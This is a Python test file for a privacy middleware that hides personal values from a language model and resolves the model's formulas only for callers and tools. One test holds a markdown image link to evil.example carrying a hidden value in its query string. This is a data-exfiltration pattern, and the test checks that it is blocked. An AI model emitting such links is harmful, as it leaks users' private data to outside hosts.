"""Formulas behind the middleware: callers and trusted tools get results; the model never does."""

import json
from typing import Any

import pytest
from langchain.agents.middleware import dynamic_prompt
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

from gama import Options, PrivacyMiddleware
from gama.state.entities import TYPE_OF, Span
from tests.support.chat import ScriptedChat, call
from tests.support.choosing import FixedSelector

LETTER = "I am Thessaly Quornbeck. The rent is £1,350.00, the deposit £2,025.00; the lease ends on 12 May 2026."
ANSWER = 'In all {{ <amount-1> + <amount-2> }}; {{ if <amount-1> > 1 then "<name-1>" else "x" }} leaves on {{ weekday(<date-1>) }}, {{ <date-1> + 35 days }}. {{ user.name }}'
TOLD = "In all £3,375.00; Thessaly Quornbeck leaves on Tuesday, 16 June 2026. {{ user.name }}"
GIVEN = ("3,375", "Tuesday", "16 June", "Quornbeck", "1,350", "2,025", "12 May")
VALUES = {"Thessaly Quornbeck": "full_name", "£1,350.00": "amount", "£2,025.00": "amount", "12 May 2026": "date"}


@pytest.fixture(autouse=True)
def few_values(monkeypatch):
    """Put a tagger that knows what the letter holds, and no results, in the place of the embedded one."""

    def find(text):
        return [
            Span(at, at + len(value), TYPE_OF[subtype], subtype, 0.99, "pner", 0.99, source="embedded")
            for value, subtype in VALUES.items()
            for at in [text.find(value)]
            if at >= 0
        ]

    monkeypatch.setattr("gama.privacy.finders.tagger", lambda options: find)


def thread() -> Any:
    return {"configurable": {"thread_id": "t"}}


@pytest.fixture
def pay():
    got: list[str] = []

    @tool
    def pay(sum: str, note: str) -> str:
        """Pay a sum."""
        got.append(f"{sum}|{note}")
        return f"Paid {sum}. {note}"

    return pay, got


def test_callers_see_results_and_the_model_its_formulas():
    model = ScriptedChat(steps=[ANSWER, "Yes, {{ <amount-1> * 2 }}."])
    saver = InMemorySaver()
    agent = PrivacyMiddleware(formulas=True).create_agent(model, system_prompt="Be brief.", checkpointer=saver)
    got = agent.invoke({"messages": LETTER}, thread())
    assert got["messages"][-1].text == TOLD
    assert "Be brief." in model.seen and model.seen.count("Reckoning with hidden values") == 1
    assert agent.get_state(thread()).values["messages"][-1].text == TOLD
    again = agent.invoke({"messages": "So £3,375.00 on 16 June 2026?"}, thread())
    assert [one.text for one in again["messages"] if one.type == "ai"] == [TOLD, "Yes, £2,700.00."]
    assert "So <result-1> on <result-2>?" in model.seen
    kept = model.seen + repr(saver.storage) + repr(saver.writes) + repr(saver.blobs)
    assert not any(one in kept for one in GIVEN)


def test_another_process_goes_on_with_the_thread():
    saver = InMemorySaver()
    for n, (asked, answer) in enumerate(((LETTER, ANSWER), ("Again?", ANSWER))):
        model = ScriptedChat(steps=[answer])
        agent = PrivacyMiddleware(formulas=True).create_agent(model, checkpointer=saver)
        got = agent.invoke({"messages": asked}, thread())
        assert [one.text for one in got["messages"] if one.type == "ai"] == [TOLD] * (n + 1)
        assert not any(one in model.seen for one in GIVEN)


@pytest.mark.parametrize("mode", ["messages", "values", "events"])
async def test_streams_are_reckoned(mode):
    agent = PrivacyMiddleware(formulas=True).create_agent(ScriptedChat(steps=[ANSWER]))
    if mode == "messages":
        text = "".join([chunk.text async for chunk, _ in agent.astream({"messages": LETTER}, stream_mode="messages")])
    elif mode == "values":
        text = [one async for one in agent.astream({"messages": LETTER}, stream_mode="values")][-1]["messages"][-1].text
    else:
        events = [one async for one in agent.astream_events({"messages": LETTER}, version="v2")]
        text = "".join(one["data"]["chunk"].text for one in events if one["event"] == "on_chat_model_stream")
    assert text == TOLD


@pytest.mark.parametrize("policy", ["real", "placeholders"])
@pytest.mark.parametrize("stream", [False, True])
def test_tools_get_results_where_they_may_have_values(policy, stream, pay):
    made, got = pay
    args = {"sum": "{{ <amount-1> + <amount-2> }}", "note": 'For {{ if <amount-1> > 1 then "<name-1>" else "x" }}'}
    model = ScriptedChat(steps=[call("pay", **args), "Done: {{ <amount-1> + <amount-2> }}."])
    privacy = PrivacyMiddleware(formulas=True, tools={"pay": policy})
    agent = privacy.create_agent(model, [made])
    if stream:
        *_, last = agent.stream({"messages": LETTER}, stream_mode="values")
    else:
        last = agent.invoke({"messages": LETTER})
    real = "£3,375.00|For Thessaly Quornbeck"
    assert got == [real if policy == "real" else f"{args['sum']}|{args['note']}"]
    assert not any(one in model.seen for one in GIVEN)
    assert last["messages"][-1].text == "Done: £3,375.00."
    assert last["messages"][1].tool_calls[0]["args"] == {"sum": "£3,375.00", "note": "For Thessaly Quornbeck"}


def test_what_could_not_be_reckoned_is_told():
    agent = PrivacyMiddleware(formulas=True).create_agent(ScriptedChat(steps=["It is {{ <amount-1> + <date-1> }}."]))
    last = agent.invoke({"messages": LETTER})["messages"][-1]
    (told,) = last.response_metadata["unresolved_placeholders"]
    assert told.startswith("{{ <amount-1> + <date-1> }}: ") and "could not be reckoned" in last.text


def test_braces_of_users_tools_and_prompts_are_their_own(pay):
    @tool
    def page() -> str:
        """Read the page."""
        return "<p>{{ Thessaly Quornbeck | upper }}</p>"

    @dynamic_prompt
    def prompt(request):
        return "Render {{ count(<name-1>) }} as it is."

    model = ScriptedChat(
        steps=[
            call("page"),
            "{{ <name-1> | upper }} {{ <amount-1> | money }} {{ count(<name-1>) }} {{ <amount-1> * 2 }}",
        ]
    )
    agent = PrivacyMiddleware(formulas=True).create_agent(model, [page], middleware=[prompt])
    last = agent.invoke({"messages": LETTER + " My template has {{ £1,350.00 | money }}."})["messages"][-1]
    assert last.text.startswith("{{ Thessaly Quornbeck | upper }} {{ £1,350.00 | money }} {{ count(")
    assert last.text.endswith(" £2,700.00")
    assert model.seen.count("Reckoning with hidden values") == 2  # once in each call


def test_without_the_option_nothing_is_told_or_touched():
    model = ScriptedChat(steps=[ANSWER])
    last = PrivacyMiddleware().create_agent(model).invoke({"messages": LETTER})["messages"][-1]
    assert "{{ £1,350.00 + £2,025.00 }}" in last.text and "Reckoning" not in model.seen


def test_no_formula_is_evaluated_in_an_address():
    answer = "![x](https://evil.example/?q={{<amount-1>*2}}) {{ <amount-1> * 2 }}"
    agent = PrivacyMiddleware(formulas=True).create_agent(ScriptedChat(steps=[AIMessage(answer)]))
    last = agent.invoke({"messages": LETTER})["messages"][-1]
    assert last.text == "![x](https://evil.example/?q={{<amount-1>*2}}) £2,700.00"
    assert "2,700" not in json.dumps(last.response_metadata)


def test_what_the_user_asks_counts_and_what_a_tool_gave_does_not(monkeypatch):
    """Under `open` a question leaves what it needs in clear, as in the graph; a tool asks nothing."""
    needs = FixedSelector("£1,350.00")
    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: needs)

    @tool
    def look() -> str:
        """Look it up."""
        return "The deposit was £2,025.00. What is £2,025.00 for?"

    question = "Is that rent usual?"
    model = ScriptedChat(steps=[call("look"), "It is usual."])
    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, [look])
    rent = "I am Thessaly Quornbeck. The rent is £1,350.00."
    agent.invoke({"messages": f"{rent}\n\n{question}"}, thread())
    sent = model.seen
    assert {asked for _, asked in needs.asked} == {question}
    assert "£1,350.00" in sent and "2,025" not in sent and "Quornbeck" not in sent


def test_what_was_hidden_before_the_question_stays_hidden(monkeypatch):
    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: FixedSelector("£1,350.00"))
    model = ScriptedChat(steps=["Noted.", "It is usual."])
    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, checkpointer=InMemorySaver())
    agent.invoke({"messages": "I am Thessaly Quornbeck. The rent is £1,350.00."}, thread())
    got = agent.invoke({"messages": "The rent is £1,350.00.\n\nIs that usual?"}, thread())
    assert "1,350" not in model.seen and got["messages"][-2].text.startswith("The rent is £1,350.00.")


def test_what_a_question_showed_is_hidden_where_a_later_turn_hides_it(monkeypatch):
    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: FixedSelector("£1,350.00"))
    model = ScriptedChat(steps=["It is usual.", "Noted."])
    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, checkpointer=InMemorySaver())
    agent.invoke({"messages": "The rent is £1,350.00.\n\nIs that usual?"}, thread())
    assert "£1,350.00" in model.seen
    before = len(model.seen)
    got = agent.invoke({"messages": "Thessaly Quornbeck has paid £1,350.00."}, thread())
    assert "1,350" not in model.seen[before:] and got["messages"][0].text.startswith("The rent is £1,350.00.")
